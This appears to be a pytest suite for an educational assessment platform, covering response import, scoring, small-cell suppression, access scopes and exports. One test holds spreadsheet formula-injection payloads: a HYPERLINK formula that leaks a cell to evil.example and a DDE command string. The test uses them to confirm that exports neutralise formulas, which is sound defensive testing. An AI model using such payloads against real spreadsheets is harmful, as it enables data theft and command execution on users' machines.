"""Census results end to end on the real database: responses import, scoring runs, suppression, scopes, exports."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from assessment.access import Scope
from assessment.answers import save_answer
from assessment.attempts import submit_attempt
from assessment.errors import Forbidden
from assessment.forms import form_items
from assessment.models import (
    Attempt,
    Form,
    ItemParameterRecord,
    ParameterSet,
    School,
    SchoolClass,
    ScoreRun,
    Student,
    User,
    UserClass,
)
from assessment.reporting_config import load_reporting_config
from assessment.response_matrix import ANSWERED, NOT_PRESENTED, NOT_REACHED, OMITTED, load_response_matrix
from assessment.responses_import import ResponsesImportError, import_responses
from assessment.results import compute_results, list_runs
from assessment.results_export import compare_runs, result_table, write_table
from assessment.windows import get_window
from scoring import ItemParameters
from scoring.models import category_probabilities

from .factories import correct_response, import_bank, login_and_start, make_class, make_form, make_window, open_session

SECRET = "test-secret-key-0123456789"
CONFIG = load_reporting_config()

# grade, school, students, true effect (theta): one grade-5 school is under the minimum cell size
SCHOOLS = [(5, "es-a", 60, -0.4), (5, "es-b", 55, 0.0), (5, "es-c", 70, 0.3), (5, "es-d", 50, 0.6),
           (5, "es-tiny", 6, 0.0), (8, "jh-a", 70, 0.5), (8, "jh-b", 60, 0.9), (8, "jh-c", 65, 1.2)]


def _params_for(db: Session, form: Form) -> tuple[list[str], ItemParameters]:
    pset = db.scalar(select(ParameterSet).where(ParameterSet.name == "provisional-2026"))
    recs = {r.item_pk: r for r in db.scalars(select(ItemParameterRecord)
                                             .where(ItemParameterRecord.parameter_set_id == pset.id))}
    layout = [(pk, item) for _, pk, item in form_items(db, form) if pk in recs]
    kmax = max(len(recs[pk].d) for pk, _ in layout)
    d = np.full((len(layout), kmax), np.nan)
    for j, (pk, _) in enumerate(layout):
        d[j, : len(recs[pk].d)] = recs[pk].d
    return [item.id for _, item in layout], ItemParameters(tuple(recs[pk].model for pk, _ in layout),
                                                           np.array([recs[pk].a for pk, _ in layout]), d)


def _simulated_census(db: Session, tmp_path: Path) -> dict[str, float]:
    """Schools with known effects sit the test on paper; their scores come in through responses import."""
    rng = np.random.default_rng(113)
    import_bank(db)
    make_window(db, "113")
    forms = {5: make_form(db, 5, seed=113), 8: make_form(db, 8, seed=113)}
    truth: dict[str, float] = {}
    rows: dict[int, list[list[str]]] = {5: [], 8: []}
    for grade, school, n, effect in SCHOOLS:
        klass = make_class(db, grade=grade, n_students=n, school=school)
        theta = effect + rng.normal(0.0, 0.9, n)
        truth[school] = effect
        ids, params = _params_for(db, forms[grade])
        probs = np.nan_to_num(category_probabilities(theta, params))
        scores = (rng.random((n, len(ids)))[:, :, None] > np.cumsum(probs, axis=2)).sum(axis=2)
        for seat in range(n):
            cells = [str(int(s)) if rng.random() > 0.1 else "" for s in scores[seat]]
            rows[grade].append([f"{klass.source_id}-{seat + 1:02d}", *cells])
        rows.setdefault(-grade, [["student", *ids]])
    db.commit()
    for grade in (5, 8):
        path = tmp_path / f"paper-g{grade}.csv"
        with path.open("w", newline="", encoding="utf-8") as f:
            csv.writer(f).writerows(rows[-grade] + rows[grade])
        import_responses(db, path, window_code="113", form_id=forms[grade].id, actor="test")
    db.commit()
    return truth


def test_simulated_census_recovers_school_means_and_the_grade_gap_and_hides_the_small_school(
        db: Session, tmp_path: Path) -> None:
    truth = _simulated_census(db, tmp_path)
    outcome = compute_results(db, "113", CONFIG, min_cell_size=10, actor="test")
    db.commit()
    run = outcome.run
    assert not outcome.reused and run.current
    base = run.summary["base"]
    table = result_table(db, run, "school", Scope.everything(), secret_key=SECRET)
    col = {c: i for i, c in enumerate(table.columns)}
    by_school = {r[col["school"]]: r for r in table.rows}
    assert by_school["es-tiny"][col["suppressed"]] is True
    assert by_school["es-tiny"][col["mean"]] is None and by_school["es-tiny"][col["n"]] is None
    grade5_mean_theta = np.mean([truth[s] for g, s, n, _ in SCHOOLS if g == 5 for _ in range(n)])
    covered = shown = 0
    complementary = [s for s, r in by_school.items() if r[col["suppressed"]] and s != "es-tiny"]
    assert len(complementary) == 1  # es-tiny's district would otherwise reveal it by subtraction
    for grade, school, _n, effect in SCHOOLS:
        row = by_school[school]
        if row[col["suppressed"]]:
            continue
        shown += 1
        # the true school mean on the reporting scale (the base cohort defines 500/100)
        true_scale = 500 + 100 * (effect - base["theta_mean"]) / base["theta_sd"]
        lo, hi = row[col["ci_low"]], row[col["ci_high"]]
        covered += lo <= true_scale <= hi
        assert abs(row[col["mean"]] - true_scale) < 3.5 * row[col["se"]], school
    assert covered >= shown - 1  # 95% intervals: at most one of six misses
    gap = run.summary["grade_gap_8_minus_5"]
    true_gap = 100 * (np.mean([e for g, _, _, e in SCHOOLS if g == 8]) - grade5_mean_theta) / base["theta_sd"]
    assert gap["ci_low"] - 5 <= true_gap <= gap["ci_high"] + 5
    assert abs(gap["estimate"] - true_gap) < 15
    assert run.summary["imported"] == sum(n for *_, n, _ in SCHOOLS)


def test_compute_is_idempotent_and_a_new_parameter_set_makes_a_new_current_run(db: Session, tmp_path: Path) -> None:
    _simulated_census(db, tmp_path)
    first = compute_results(db, "113", CONFIG, min_cell_size=10).run
    again = compute_results(db, "113", CONFIG, min_cell_size=10)
    assert again.reused and again.run.id == first.id
    old = db.scalar(select(ParameterSet).where(ParameterSet.name == "provisional-2026"))
    new = ParameterSet(name="calibrated-113", provisional=False, published=True)
    db.add(new)
    db.flush()
    for p in old.parameters:
        db.add(ItemParameterRecord(parameter_set_id=new.id, item_pk=p.item_pk, model=p.model, a=p.a * 1.1, d=p.d, c=p.c))
    db.commit()
    second = compute_results(db, "113", CONFIG, min_cell_size=10, parameter_set="calibrated-113").run
    db.commit()
    runs = list_runs(db, "113")
    assert [r.id for r in runs] == [second.id, first.id]
    assert second.current and not db.get(ScoreRun, first.id).current
    assert result_table(db, first, "city", Scope.everything(), secret_key=SECRET).rows  # still readable


def test_missing_data_rules_omitted_is_zero_not_reached_is_coded(db: Session) -> None:
    ts, attempts = open_session(db, n_students=3)
    layout = form_items(db, ts.form)
    first, second, _absent = attempts
    login_and_start(db, first.ticket, secret_key=SECRET)
    for seq, (_, _, item) in enumerate([layout[0], layout[1], layout[3]], start=1):
        save_answer(db, first.id, item.id, seq, correct_response(item))
    submit_attempt(first)
    login_and_start(db, second.ticket, secret_key=SECRET)
    submit_attempt(second)  # started, answered nothing
    db.commit()
    m = load_response_matrix(db, get_window(db, "113"))
    assert m.n_students == 1 and m.n_without_answers == 1
    col = {pk: j for j, pk in enumerate(m.item_pks.tolist())}
    status = [int(m.status[0, col[pk]]) for _, pk, _ in layout]
    assert status[:4] == [ANSWERED, ANSWERED, OMITTED, ANSWERED]
    assert set(status[4:]) == {NOT_REACHED}
    assert m.scores[0, col[layout[2][1]]] == 0.0
    assert np.isnan(m.for_calibration()[0, col[layout[5][1]]])
    assert m.for_scoring("zero")[0, col[layout[5][1]]] == 0.0
    assert np.isnan(m.for_scoring("missing")[0, col[layout[5][1]]])
    assert NOT_PRESENTED not in status


def _user(db: Session, username: str, role: str, school: str | None, classes: list[int] = ()) -> User:  # type: ignore[assignment]
    school_id = db.scalar(select(School.id).where(School.source_id == school)) if school else None
    user = User(username=username, password_hash="x", role=role, school_id=school_id)
    db.add(user)
    db.flush()
    for c in classes:
        db.add(UserClass(user_id=user.id, class_id=c))
    db.flush()
    return user


def test_school_and_teacher_scopes_never_return_other_rows(db: Session, tmp_path: Path) -> None:
    _simulated_census(db, tmp_path)
    run = compute_results(db, "113", CONFIG, min_cell_size=10).run
    class_a = db.scalar(select(SchoolClass.id).join(School).where(School.source_id == "es-a"))
    admin_b = Scope.for_user(db, _user(db, "admin-b", "school_admin", "es-b"))
    teacher = Scope.for_user(db, _user(db, "teacher-a", "teacher", "es-a", [class_a]))
    for level in ("school", "class"):
        t = result_table(db, run, level, admin_b, secret_key=SECRET)
        assert t.rows and {r[t.columns.index("school")] for r in t.rows} == {"es-b"}
    t = result_table(db, run, "student", admin_b, secret_key=SECRET)
    assert len(t.rows) == 55 and {r[t.columns.index("school")] for r in t.rows} == {"es-b"}
    t = result_table(db, run, "student", teacher, secret_key=SECRET)
    assert len(t.rows) == 60 and {r[t.columns.index("class")] for r in t.rows} == {"es-a-c1"}
    assert result_table(db, run, "school", teacher, secret_key=SECRET).rows == []
    assert len(result_table(db, run, "city", teacher, secret_key=SECRET).rows) == 2
    with pytest.raises(Forbidden):
        admin_b.check_school(db.scalar(select(School.id).where(School.source_id == "es-a")))
    with pytest.raises(Forbidden):
        Scope.for_user(db, _user(db, "proctor-a", "proctor", "es-a"))
    # researchers: pseudonyms, stable across calls, no roster id
    researcher = Scope.for_user(db, _user(db, "res", "researcher", None))
    t1 = result_table(db, run, "student", researcher, secret_key=SECRET)
    t2 = result_table(db, run, "student", researcher, secret_key=SECRET)
    assert [r[0] for r in t1.rows] == [r[0] for r in t2.rows]
    keys = set(db.scalars(select(Student.source_id)))
    assert not keys & {r[0] for r in t1.rows}
    assert not {"es-a", "es-b"} & {r[t1.columns.index("school")] for r in t1.rows}


def test_exports_write_every_level_as_csv_and_xlsx_with_empty_suppressed_values(db: Session, tmp_path: Path) -> None:
    _simulated_census(db, tmp_path)
    run = compute_results(db, "113", CONFIG, min_cell_size=10).run
    for level in ("student", "class", "school", "district", "city"):
        table = result_table(db, run, level, Scope.everything(), secret_key=SECRET)
        buf = io.BytesIO()
        write_table(table, "csv", buf)
        rows = list(csv.DictReader(io.StringIO(buf.getvalue().decode("utf-8"))))
        assert rows
        if level == "student":
            assert {"student", "grade", "school", "theta", "theta_se", "scale_score", "level"} <= set(rows[0])
            continue
        assert {level, "grade", "n", "mean", "sd", "se", "suppressed"} <= set(rows[0])
        assert sum(c.startswith("pct_") and not c.endswith("_se") for c in rows[0]) == len(CONFIG.levels)
        for r in rows:
            if r["suppressed"] == "true":
                assert r["n"] == r["mean"] == r["se"] == r["sd"] == ""
    from openpyxl import load_workbook

    write_table(result_table(db, run, "school", Scope.everything(), secret_key=SECRET), "xlsx", tmp_path / "s.xlsx")
    ws = load_workbook(tmp_path / "s.xlsx").active
    assert [c.value for c in ws[1]][:3] == ["school", "district", "grade"]


def test_responses_import_names_every_problem_and_stores_nothing(db: Session, tmp_path: Path) -> None:
    import_bank(db)
    make_window(db, "113")
    form = make_form(db, 5, seed=113)
    klass = make_class(db, grade=5, n_students=3)
    make_class(db, grade=8, n_students=1, school="jh-x")
    db.commit()
    item_ids = [item.id for _, _, item in form_items(db, form)]
    first, second = item_ids[0], item_ids[1]
    s1, s2 = f"{klass.source_id}-01", f"{klass.source_id}-02"
    path = tmp_path / "bad.csv"
    path.write_text(
        f"student,{first},{second}\n"
        f"{s1},1,\n"
        f"{s1},0,0\n"          # duplicate student
        f"nobody,1,1\n"        # unknown student
        f"{s2},7,x\n"          # scores out of range / not a number
        f"jh-x-c1-01,1,1\n"    # grade 8 student on a grade-5 form
        f"{s2},1\n",           # short row
        encoding="utf-8")
    before = db.scalar(select(func.count()).select_from(Attempt))
    with pytest.raises(ResponsesImportError) as err:
        import_responses(db, path, window_code="113", form_id=form.id)
    text = err.value.message
    for expected in ("line 3, column 1 (student)", "already appears on line 2", "line 4, column 1", "'nobody'",
                     f"line 5, column 2 ({first})", f"line 5, column 3 ({second})", "line 6, column 1",
                     "grade 8", "line 7: has 2 fields"):
        assert expected in text, expected
    db.rollback()
    assert db.scalar(select(func.count()).select_from(Attempt)) == before
    bad_header = tmp_path / "header.csv"
    bad_header.write_text(f"pupil,{first},no-such-item\n{s1},1,1\n", encoding="utf-8")
    with pytest.raises(ResponsesImportError, match=r"line 1, column 1.*\n.*line 1, column 3: 'no-such-item'"):
        import_responses(db, bad_header, window_code="113", form_id=form.id)
    good = tmp_path / "good.csv"
    good.write_text(f"student,{first},{second}\n{s1},1,0\n", encoding="utf-8")
    assert import_responses(db, good, window_code="113", form_id=form.id).attempts == 1
    db.commit()
    with pytest.raises(ResponsesImportError, match=r"line 2, column 1 .*already has an attempt.*--replace"):
        import_responses(db, good, window_code="113", form_id=form.id)
    db.rollback()
    report = import_responses(db, good, window_code="113", form_id=form.id, replace=True)
    assert report.replaced == 1
    db.commit()
    m = load_response_matrix(db, get_window(db, "113"))
    assert m.n_students == 1 and bool(m.imported[0])
    assert int((m.status[0] == NOT_PRESENTED).sum()) == len(item_ids) - 2


def test_year_over_year_uses_the_base_years_scale_and_compares_units(db: Session, tmp_path: Path) -> None:
    _simulated_census(db, tmp_path)
    first = compute_results(db, "113", CONFIG, min_cell_size=10).run
    make_window(db, "114")
    forms = {f.grade: f for f in db.scalars(select(Form))}
    for grade in (5, 8):  # the same answers a year later: the change must be about zero
        import_responses(db, tmp_path / f"paper-g{grade}.csv", window_code="114", form_id=forms[grade].id)
    second = compute_results(db, "114", CONFIG, min_cell_size=10).run
    db.commit()
    assert second.summary["base"] == first.summary["base"]  # 114 is reported on 113's grade-5 scale
    table = compare_runs(db, first, second, "school", Scope.everything(), secret_key=SECRET)
    col = {c: i for i, c in enumerate(table.columns)}
    shown = [r for r in table.rows if not r[col["suppressed"]]]
    assert len(shown) >= 6
    for r in shown:
        assert r[col["ci_low"]] <= 0 <= r[col["ci_high"]]
        assert abs(r[col["change"]]) < r[col["change_se"]]  # only the plausible values were drawn anew
    city = compare_runs(db, first, second, "city", Scope.everything(), secret_key=SECRET)
    assert all(abs(r[city.columns.index("change")]) < 3 for r in city.rows)
    assert any(r[col["suppressed"]] for r in table.rows if r[col["school"]] == "es-tiny")


def test_exports_never_hand_a_spreadsheet_a_formula(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from assessment.results_export import ResultTable

    table = ResultTable(("school", "n", "mean"), [['=HYPERLINK("http://evil.example/?x="&A1,"click")', 12, -3.5],
                                                   ["+cmd|' /C calc'!A0", 1, None], ["@SUM(1)", 2, 4.0]])
    write_table(table, "csv", tmp_path / "t.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "t.csv").read_text(encoding="utf-8"))))
    assert [r[0] for r in rows[1:]] == ["'" + r[0] for r in table.rows]
    assert rows[1][2] == "-3.5"  # numbers stay numbers
    write_table(table, "xlsx", tmp_path / "t.xlsx")
    ws = load_workbook(tmp_path / "t.xlsx").active
    names = [ws.cell(row=k, column=1) for k in range(2, 5)]
    assert all(c.data_type == "s" for c in names) and names[0].value == table.rows[0][0]
    assert ws.cell(row=2, column=3).value == -3.5


def test_the_runs_fingerprint_and_draws_do_not_depend_on_where_the_reporting_file_lies(db: Session) -> None:
    from dataclasses import replace

    from assessment.results import _fingerprint

    import_bank(db)
    make_window(db, "113")
    matrix = load_response_matrix(db, get_window(db, "113"))
    params = ItemParameters(model=("2pl",), a=np.array([1.0]), d=np.array([[0.0]]), item_names=("i",))
    here = {"reporting": CONFIG.to_dict(), "min_cell_size": 10}
    elsewhere = {"reporting": replace(CONFIG, source="/somewhere/else/reporting.yaml").to_dict(), "min_cell_size": 10}
    assert _fingerprint(matrix, params, here) == _fingerprint(matrix, params, elsewhere)
    changed = {"reporting": replace(CONFIG, mean=400.0).to_dict(), "min_cell_size": 10}
    assert _fingerprint(matrix, params, here) != _fingerprint(matrix, params, changed)
